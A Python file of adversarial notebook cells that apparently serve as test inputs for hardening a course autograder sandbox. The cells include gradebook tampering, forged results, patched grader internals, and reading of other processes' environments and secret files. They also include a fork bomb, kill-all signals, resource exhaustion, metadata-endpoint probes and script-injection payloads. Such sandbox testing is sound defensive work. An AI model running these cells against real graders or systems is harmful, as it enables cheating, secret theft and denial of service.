"""Cells that stand in front of wrong answers. `{root}` stands for the course folder, whose place an attacker may know."""

BEFORE = {
    "asserts_do_nothing": """
import numpy.testing, course_lib.testing
for module in (numpy.testing, course_lib.testing):
    for name in dir(module):
        if name.startswith(("assert", "check")):
            setattr(module, name, lambda *a, **k: None)
            globals()[name] = lambda *a, **k: None
""",
    "isclose_says_yes": """
import numpy as np
np.isclose = lambda a, b, **k: np.ones(np.shape(a), bool)
np.allclose = np.array_equal = lambda *a, **k: True
""",
    "input_transformer": """
ip = get_ipython()
ip.input_transformers_cleanup = [lambda lines: []]
ip.ast_transformers = [lambda tree: None]
""",
    "execution_result_success": """
try:
    from IPython.core.interactiveshell import ExecutionResult
    ExecutionResult.success = True
except Exception as error:
    print(error)
""",
    "forged_execute_result": """
import json, sys
print(json.dumps({"output_type": "execute_result", "data": {"text/plain": "3.0"}}))
sys.stdout.buffer.write(b'{"marks": {"test_double": {"points": 3.0, "max_points": 3.0}}')
display(3.0)
""",
    "frames_of_the_caller": """
import sys
frame = sys._getframe()
while frame is not None:
    for space in (frame.f_globals, frame.f_locals):
        for name, value in list(space.items()):
            print(name, value if isinstance(value, (str, bytes)) else type(value))
    frame = frame.f_back
""",
    "classmates_and_source": """
import os
for path in ("{root}/source/tiny/tiny.ipynb", "{root}/tiny.py", "{root}/gradebook.db", "{root}/.course/secret",
             "{root}/submitted"):
    print(path, os.path.exists(path))
    try:
        print(open(path, "rb").read())
    except OSError as error:
        print(error)
for folder, _, files in os.walk("/"):
    for name in files:
        if name.endswith(".ipynb") or name in ("gradebook.db", "secret"):
            print("FOUND", folder, name)
""",
    "reference_package": """
try:
    from course_lib import max_pool
except ImportError as error:
    print("ImportError", error)
import course_lib, importlib
for name in ("pooling", "windows", "grading", "catalogue"):
    try:
        importlib.import_module("course_lib." + name)
        print("FOUND", name)
    except ImportError as error:
        print(error)
""",
    "gradebook": """
import sqlite3
try:
    book = sqlite3.connect("{root}/gradebook.db")
    book.execute("update grade set auto_score = 9, manual_score = 9")
    book.execute("create trigger zero after update on grade begin update grade set auto_score = 0; end")
    book.commit()
except Exception as error:
    print(error)
""",
    "signals_to_everybody": """
import os, signal
for pid in (os.getppid(), 1):
    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except OSError as error:
            print(pid, error)
""",
    "kills_all": "import os, signal\nos.kill(-1, signal.SIGKILL)",
    "parents_memory": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in {os.getppid(), 1}:
    print("ptrace", libc.ptrace(16, pid, 0, 0))
    try:
        open(f"/proc/{pid}/mem", "r+b").write(b"x")
    except (OSError, ValueError) as error:
        print(error)
""",
    "proc": """
import glob
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + ["/proc/self/mountinfo"]:
    try:
        print(path, open(path, "rb").read())
    except OSError as error:
        print(error)
""",
    "ctypes_zero": "import ctypes\nctypes.string_at(0)",
    "writes_to_every_descriptor": """
import os
for descriptor in range(3, 64):
    for junk in (b"\\0\\0\\0\\2\\0\\0\\0\\0\\0\\0\\0\\0{}", b"\\xff" * 64):
        try:
            os.write(descriptor, junk)
        except OSError:
            pass
""",
    "closes_every_descriptor": "import os\nos.closerange(0, 64)",
    "threads_and_daemons": """
import os, threading
def forever():
    while True:
        pass
for _ in range(3):
    threading.Thread(target=forever, daemon=True).start()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        forever()
    os._exit(0)
""",
    "settrace": """
import sys, threading
def trace(frame, event, argument):
    if "expected" in frame.f_locals:
        frame.f_locals["expected"] = 0
    return trace
sys.settrace(trace)
threading.settrace(trace)
""",
    "fork_bomb": """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    "balloon": "import numpy as np\nballoon = np.ones(30 << 27)",
    "balloon_of_children": """
import os, time
for _ in range(8):
    if os.fork() == 0:
        kept = b"x" * (100 << 20)
        time.sleep(60)
time.sleep(1)
""",
    "disk": """
import os
for folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), "/", "/course", "/dev"):
    try:
        for number in range(100):
            with open(f"{folder}/{number}", "wb") as file:
                file.write(b"x" * (16 << 20))
    except OSError as error:
        print(folder, error)
""",
    "prints_50_megabytes": "for _ in range(50):\n    print('x' * (1 << 20))",
    "prints_a_million_lines": "import os\nfor _ in range(100):\n    os.write(1, b'line\\n' * 10000)",
    "shows_a_thousand_things": "for number in range(1000):\n    display('y' * 100000)",
    "network": """
import socket
for address in (("1.1.1.1", 53), ("127.0.0.1", 22), ("169.254.169.254", 80)):
    try:
        socket.create_connection(address, 1)
        print("FOUND network")
    except OSError as error:
        print(error)
try:
    abstract = socket.socket(socket.AF_UNIX)
    abstract.connect("\\0/tmp/.X11-unix/X0")
    print("FOUND socket")
except OSError as error:
    print(error)
""",
    "namespaces_and_mounts": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x00020000, 0x20000000, 0x40000000):
    if libc.unshare(flags) == 0:
        print("FOUND unshare", flags)
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
    print("FOUND mount")
for attempt in (lambda: os.chroot("/tmp"), lambda: os.setuid(0), lambda: os.open("/course/inside/x", os.O_CREAT)):
    try:
        attempt()
        print("FOUND", attempt)
    except OSError as error:
        print(error)
""",
    "endless_cell": "while True:\n    pass",
    "sleeping_cell": "import time\ntime.sleep(10 ** 6)",
    "ignores_signals": """
import signal
for number in range(1, 64):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    pass
""",
    "ends_quietly": "import os\nos._exit(0)",
    "exits": "exit()",
    "markup": """
print("\\x1b]0;owned\\x07\\x1b[2J<script>alert(1)</script>\\u202egnp.exe")
class Evil:
    def __repr__(self):
        return "<script>alert(2)</script>"
    def _repr_html_(self):
        return "<script>alert(3)</script>"
    _repr_javascript_ = _repr_html_
    def _repr_mimebundle_(self, *a, **k):
        return {"text/html": "<script>alert(4)</script>", "application/javascript": "alert(5)"}
from IPython.display import HTML, display
display(Evil(), HTML("<img src=x onerror=alert(6)>"))
raise ValueError("<script>alert(7)</script><img src=x onerror=alert(8)>")
""",
    "names_in_unicode": """
ｄｏｕｂｌｅ = lambda x: x
globals()["check_array"] = globals()["check_ａrray"] = lambda *a, **k: None
""",
    "patches_the_runner": """
import sys
runner = sys.modules.get("inside.runner") or sys.modules["__main__"]
frame = sys._getframe()
while frame:
    if "Server" in frame.f_globals:
        Server = frame.f_globals["Server"]
        Server.call = lambda self, message: {"value": True, "changed": []}
        Server.get = lambda self, message: {"value": ["float", "nan"], "changed": []}
    frame = frame.f_back
""",
    "answers_with_errors": """
import sys
frame = sys._getframe()
while frame:
    if "Server" in frame.f_globals:
        names = iter(["SystemExit", "KeyboardInterrupt", "StopIteration", "GeneratorExit", "__class__", "Mismatch"] * 99)
        frame.f_globals["Server"].call = lambda self, message: {"error": [next(names), "", ""]}
    frame = frame.f_back
""",
    "answers_nonsense": """
import sys
frame = sys._getframe()
while frame:
    if "Server" in frame.f_globals:
        answers = iter([[], {}, {"value": 1}, {"error": 1}, {"odd": {}}, None, "x", 5, {"callable": True}] * 99)
        frame.f_globals["Server"].call = lambda self, message: next(answers)
    frame = frame.f_back
""",
    "descriptors_by_name": """
import os
for number in range(64):
    for path in (f"/proc/self/fd/{number}", f"/dev/fd/{number}"):
        for mode in ("rb", "wb"):
            try:
                with open(path, mode, buffering=0) as file:
                    file.write(b"x" * 99) if mode == "wb" else os.set_blocking(file.fileno(), False) or file.read(99)
            except (OSError, ValueError):
                pass
""",
    "another_program": """
import os, sys
os.execv(sys.executable, [sys.executable, "-c", "import os\\nfor n in range(64):\\n  for _ in range(99):\\n"
         "    try: os.write(n, b'\\0\\0\\0\\2\\0\\0\\0\\0\\0\\0\\0\\0{}')\\n    except OSError: break"])
""",
    "program_in_memory": """
import os
file = os.memfd_create("program")
os.write(file, b"#!/python/bin/python3\\nprint('FOUND')")
try:
    os.execve(file, ["program"], {"PATH": "/"})
except OSError as error:
    print(error)
""",
    "answers_in_advance": """
import os, stat, sys
frame, Frames = sys._getframe(), None
while frame:
    Frames = frame.f_globals.get("frames", Frames)
    frame = frame.f_back
for number in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            for _ in range(99):
                os.write(number, Frames.encode({"value": True, "changed": [], "pid": 1, "callable": True}))
    except OSError:
        pass
""",
    "answers_from_a_thread": """
import os, stat, threading, time
def shout():
    while True:
        for number in range(3, 16):
            try:
                if stat.S_ISSOCK(os.fstat(number).st_mode):
                    os.write(number, b"\\0\\0\\0\\1\\0\\0\\0\\0\\0\\0\\0\\0{")
            except OSError:
                pass
        time.sleep(0.01)
threading.Thread(target=shout, daemon=True).start()
""",
    "answers_drop_by_drop": """
import os, stat, time
for number in range(3, 16):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            while True:
                os.write(number, b"\\0")
                time.sleep(0.3)
    except OSError:
        pass
""",
    "fills_the_descriptors": """
import os
kept = []
try:
    while True:
        kept += os.pipe()
except OSError:
    pass
""",
    "signals_to_the_first_process": """
import os, signal
for _ in range(200):
    for number in range(1, 65):
        if number not in (signal.SIGKILL, signal.SIGSTOP):
            for pid in (1, os.getppid()):
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
""",
    "process_settings": """
import ctypes, os, resource
libc = ctypes.CDLL(None, use_errno=True)
for option, value in ((1, 0), (4, 0), (8, 1), (28, 0xFF), (36, 1)):  # death signal, dumpable, powers kept, subreaper
    libc.prctl(option, value, 0, 0, 0)
for pid in {1, os.getppid()}:
    for limit in (resource.RLIMIT_NOFILE, resource.RLIMIT_NPROC, resource.RLIMIT_CPU):
        try:
            resource.prlimit(pid, limit, (0, 0))
        except OSError as error:
            print(error)
""",
    "looks_through_memory": """
import gc, sys
halves = ["return x ", "nobody may see"]
for thing in gc.get_objects():
    for value in thing.values() if type(thing) is dict else thing if type(thing) in (list, tuple) else ():
        if type(value) is str and (halves[0] + "+ x" in value or halves[1] + " this line" in value):
            print("FOUND", value[:200])
""",
    "terminals_and_messages": """
import ctypes, glob, os
libc = ctypes.CDLL(None, use_errno=True)
for path in glob.glob("/dev/pts/*"):
    print("FOUND", path) if path[-1].isdigit() else None
print([libc.shmget(key, 64, 0) for key in range(99) if libc.shmget(key, 64, 0) >= 0])
try:
    os.openpty()
except OSError as error:
    print(error)
""",
    "bytecode_of_the_runner": """
import glob, os
for path in glob.glob("/course/**", recursive=True) + glob.glob("/packages/numpy/__pycache__/*")[:9]:
    for attempt in (os.unlink, lambda p: os.utime(p, (0, 0)), lambda p: os.chmod(p, 0o777), lambda p: open(p, "r+b")):
        try:
            attempt(path)
            print("FOUND", path)
        except OSError:
            pass
""",
    "at_exit": """
import atexit, os, signal, sys
def last():
    while True:
        pass
atexit.register(last)
sys.excepthook = sys.unraisablehook = lambda *a: last()
signal.signal(signal.SIGXCPU, signal.SIG_IGN)
os.register_at_fork(after_in_child=lambda: print("child"), before=lambda: os.write(2, b"."))
""",
    "forks_never_come": """
import os
os.fork = lambda: os._exit(0)
""",
    "forks_in_disguise": """
import os
os.fork = lambda: 1
os.waitpid = lambda *a: (1, 0)
""",
    "odd_exception_names": """
class Odd(Exception):
    pass
Odd.__name__ = "No answer: \\n" + "\\ud800<b>" + "x" * 100000
def double(x):
    raise Odd("\\udfff" * 5000)
raise Odd("\\nNo answer: 9 of 9 points")
""",
}
